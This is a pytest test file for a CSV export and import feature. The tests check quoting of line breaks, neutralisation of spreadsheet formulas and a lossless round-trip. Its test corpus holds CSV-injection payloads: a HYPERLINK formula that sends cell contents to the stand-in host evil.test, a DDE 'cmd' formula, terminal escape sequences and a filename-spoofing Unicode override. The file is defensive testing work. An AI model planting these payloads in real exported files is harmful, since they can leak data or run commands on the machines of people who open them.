# ruff: noqa: F811 (the fixtures shared with test_export are parameters here)
"""CSV that spreadsheets and the import can both trust (issue 15, items 6 and 7).

A cell holding CR or LF is quoted (a bare CR used to split the row); a cell a spreadsheet would
run as a formula gets OWASP's leading apostrophe, which the import takes off again; a hostile
corpus exported to CSV and imported back (into the same store and into an empty one)
round-trips exactly, with and without ``--raw``.
"""

from __future__ import annotations

import asyncio
import csv
import io
import itertools
import json
import os
import stat
from pathlib import Path

import pytest

from flowtui.api.service import ApiService
from flowtui.ops.export import FORMULA_START, csv_line, neutralise, restore
from flowtui.sandbox import demo
from tests.conftest import CLIENT_ID, CLIENT_SECRET
from tests.ops.test_export import cli, jsonl, make_shop  # noqa: F401
from tests.ops.test_import import counts

#: Values a hostile store user (or a spreadsheet) might put in any text attribute.
CORPUS = [
    # formulas (OWASP CSV injection)
    "=1+1",
    '=HYPERLINK("http://evil.test/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "-5",
    "-12.5e3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\t",
    # line breaks
    "bare\rcarriage return",
    "line\nfeed",
    "crlf\r\nline",
    "\r",
    "\n",
    "\r\n",
    "ends with cr\r",
    # quotes and separators
    '"',
    '""',
    'say "hi", then leave',
    '","',
    "semi;colon",
    # apostrophes, including ones that look neutralised already
    "'",
    "''",
    "'''",
    "'=1+1",
    "''=1+1",
    "'-5",
    "'\t",
    "'hello",
    "it's",
    # tabs, spaces, unicode, control characters
    "a\tb",
    " leading space",
    "trailing space ",
    "Zoë ✓ 日本語 🎉",
    "invoice\u202efdp.exe",
    "ze\u200bro\ufeffwidth",
    "\x1b]0;pwned\x07title",
    "\x1b[2J\x9bc1",
    "del\x7f and \x01\x02\x1f",
]


def test_neutralise_is_undone_exactly_by_restore():
    alphabet = ["'", "=", "+", "-", "@", "\t", "\r", "a", "1", ".", "e"]
    for n in range(5):
        for chars in itertools.product(alphabet, repeat=n):
            value = "".join(chars)
            cell = neutralise(value)
            assert restore(cell) == value, (value, cell)
            if cell[:1] in FORMULA_START:  # only a negative number is left to run
                assert _negative_number(cell), (value, cell)


def test_neutralise_leaves_ordinary_text_alone():
    for value in ("Leslie Knope", "'hello", "it's", "'", "", "12", "0.5", "{}", "[1]"):
        assert neutralise(value) == value
        assert restore(value) == value
    assert neutralise("=1+1") == "'=1+1"
    assert neutralise("'=1+1") == "''=1+1"
    assert neutralise("-5") == "-5" and neutralise("-5-5") == "'-5-5"


def test_csv_line_quotes_cr_and_lf():
    cells = ["a\rb", "c\nd", "e\r\nf", 'g"h', "i,j", "", "plain"]
    line = csv_line(cells)
    assert line == '"a\rb","c\nd","e\r\nf","g""h","i,j",,plain\n'
    assert list(csv.reader(io.StringIO(line, newline=""), strict=True)) == [cells]
    assert csv_line([""]) == '""\n'  # not a blank line, which readers skip


def _breaks_outside_quotes(text: str) -> int:
    """How many CR or LF characters of ``text`` are outside quoted cells (a spreadsheet
    starts a new row at each)."""
    quoted, breaks = False, 0
    for char in text:
        if char == '"':
            quoted = not quoted
        elif char in "\r\n" and not quoted:
            breaks += 1
    return breaks


def _negative_number(cell: str) -> bool:
    try:
        return cell.startswith("-") and float(cell) < 0
    except ValueError:
        return False


def _flow_only(make_shop, profile: str = "shop"):
    """A sandbox with the demo flows and fields but no customer yet."""
    shop = make_shop(0, profile=profile)
    assert demo.seed(shop.store, 0)
    return shop


def _plant(shop) -> dict[str, str]:
    """One customer per corpus value (as name, external ref and delivery notes); email -> value."""
    store = shop.store
    flow = store.get_flow_by_slug("customers")
    notes = next(f for f in store.list_fields(flow["id"]) if f["slug"] == "delivery_notes")
    planted = {}
    for i, value in enumerate(CORPUS):
        email = f"hostile{i}@evil.test"
        store.create_customer(
            name=value,
            email=email,
            password_hash=None,
            external_ref=value,
            custom={notes["id"]: value},
        )
        planted[email] = value
    return planted


def _records(cli, profile: str) -> dict[str, dict]:
    run = cli("export", "customers", "--profile", profile)
    assert run.code == 0, run.err
    keep = ("name", "email", "external_ref", "delivery_notes", "loyalty_tier", "newsletter")
    return {r["email"]: {k: r[k] for k in keep} for r in jsonl(run.out)}


@pytest.mark.parametrize("raw", [False, True], ids=["neutralised", "raw"])
def test_a_hostile_corpus_round_trips_through_csv(cli, make_shop, tmp_path, raw):
    shop = make_shop(3)
    planted = _plant(shop)
    flag = ["--raw"] if raw else []
    path = tmp_path / "customers.csv"
    run = cli("export", "customers", "--format", "csv", "--output", str(path), *flag)
    assert run.code == 0, run.err

    text = path.read_text(encoding="utf-8")
    rows = list(csv.reader(io.StringIO(text, newline=""), strict=True))
    assert len(rows) == 1 + 3 + len(CORPUS)  # no value split its row
    assert all(len(r) == len(rows[0]) for r in rows)
    assert _breaks_outside_quotes(text) == len(rows)  # only the line ends: no bare CR or LF
    cells = [c for r in rows for c in r]
    runnable = [c for c in cells if c[:1] in FORMULA_START and not _negative_number(c)]
    if raw:
        assert "=1+1" in cells and "@SUM(A1:A9)" in cells  # exactly as stored
        assert runnable
    else:
        assert runnable == []
        assert "'=1+1" in cells and "''=1+1" in cells and "'hello" in cells and "-5" in cells

    # Back into the same store: every value reads as exactly the stored one.
    again = cli("import", "customers", str(path), "--dry-run", *flag)
    assert again.code == 0, again.out + again.err
    assert counts(again.out) == {
        "create": 0,
        "update": 0,
        "unchanged": 3 + len(CORPUS),
        "invalid": 0,
    }

    # Into an empty store: every customer is created with exactly these values.
    empty = _flow_only(make_shop, "empty")
    created = cli("import", "customers", str(path), "--yes", "--profile", "empty", *flag)
    assert created.code == 0, created.out + created.err
    assert counts(created.out)["create"] == 3 + len(CORPUS)
    before, after = _records(cli, "shop"), _records(cli, "empty")
    assert after == before
    for email, value in planted.items():
        assert after[email]["name"] == value
        assert after[email]["external_ref"] == value
        assert after[email]["delivery_notes"] == value
    assert empty.store is not shop.store


def test_a_raw_export_read_without_raw_loses_only_marked_apostrophes(cli, make_shop, tmp_path):
    """Why import has --raw: without it, a raw export's ``'=x`` would read as ``=x``."""
    shop = _flow_only(make_shop)
    _plant(shop)
    path = tmp_path / "raw.csv"
    assert cli("export", "customers", "--format", "csv", "-o", str(path), "--raw").code == 0
    run = cli("import", "customers", str(path), "--dry-run")
    changed = {"'=1+1", "''=1+1", "''", "'''", "'-5", "'\t"}
    assert counts(run.out)["update"] == len(changed)
    assert counts(run.out)["unchanged"] == len(CORPUS) - len(changed)


def test_the_header_is_neutralised_and_restored_too(cli, make_shop, tmp_path):
    shop = make_shop(2)

    async def add_field() -> None:
        async with ApiService(shop.url, CLIENT_ID, CLIENT_SECRET, rate_limit=None) as service:
            flow = next(f for f in await service.list_flows() if f.slug == "customers")
            await service.create_field(flow, name="Minus", slug="-minus", field_type="string")

    asyncio.run(add_field())
    path = tmp_path / "c.csv"
    assert cli("export", "customers", "--format", "csv", "-o", str(path)).code == 0
    header = next(csv.reader(path.open(newline="", encoding="utf-8")))
    assert header[-1] == "'-minus"
    run = cli("import", "customers", str(path), "--dry-run")
    assert run.code == 0, run.out + run.err
    assert "Ignored columns" not in run.out  # the column is the field's
    assert counts(run.out)["unchanged"] == 2


def test_the_export_file_is_private(cli, make_shop, tmp_path):
    make_shop(5)
    old = os.umask(0o022)
    try:
        folder = tmp_path / "shared"
        folder.mkdir(mode=0o755)
        target = folder / "customers.jsonl"
        target.write_text("an older export\n")
        os.chmod(target, 0o644)
        stale = Path(str(target) + ".part")
        stale.write_text("left by an interrupted export\n")
        os.chmod(stale, 0o666)
        run = cli("export", "customers", "-o", str(target))
    finally:
        os.umask(old)
    assert run.code == 0, run.err
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    assert stat.S_IMODE(folder.stat().st_mode) == 0o755  # the user's folder is left as it is
    assert not stale.exists()
    assert len(jsonl(target.read_text())) == 5
    assert json.loads(target.read_text().splitlines()[0])["email"]
